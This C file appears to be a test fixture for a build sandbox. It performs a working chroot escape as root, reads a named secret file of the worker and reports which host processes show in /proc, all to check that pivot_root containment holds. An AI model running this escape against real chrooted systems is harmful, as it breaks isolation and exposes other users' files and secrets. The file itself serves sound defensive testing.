/* A classic chroot escape, run from a RUN step by tests/faults/test_sandbox.py.
 *
 * usage: escape SECRET_PATH HOST_PID
 *
 * As root in a plain chroot, chroot() into a subdirectory leaves the working directory
 * outside the new root, so enough chdir("..") reach the real root and chroot(".") makes it
 * ours. Then report what a hostile build could learn: a file of the worker (SECRET_PATH),
 * how many processes /proc lists, and whether a known host process (HOST_PID) is visible.
 * It never signals anything. Under a pivot_root'ed container the climb stops at the
 * container's own root, so none of the worker's files or processes show.
 */
#include <ctype.h>
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void escape_chroot(void) {
    mkdir("/escape-jail", 0700);
    if (chroot("/escape-jail") != 0) {
        perror("escape: chroot into jail");
        return;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) perror("escape: chroot(.)");
}

static void read_secret(const char *path) {
    FILE *file = fopen(path, "r");
    if (file == NULL) {
        printf("escape: cannot read %s\n", path);
        return;
    }
    char line[4096];
    while (fgets(line, sizeof line, file) != NULL) printf("escape: read: %s", line);
    fclose(file);
    printf("\n");
}

static int count_pids(void) {
    DIR *proc = opendir("/proc");
    if (proc == NULL) return -1;
    int count = 0;
    struct dirent *entry;
    while ((entry = readdir(proc)) != NULL) {
        if (isdigit((unsigned char)entry->d_name[0])) count++;
    }
    closedir(proc);
    return count;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: escape SECRET_PATH HOST_PID\n");
        return 2;
    }
    escape_chroot();
    read_secret(argv[1]);
    char pid_dir[64];
    struct stat info;
    snprintf(pid_dir, sizeof pid_dir, "/proc/%s", argv[2]);
    printf("escape: host pid %s %s\n", argv[2],
           stat(pid_dir, &info) == 0 ? "VISIBLE" : "not visible");
    printf("escape: /proc lists %d processes\n", count_pids());
    return 0;
}
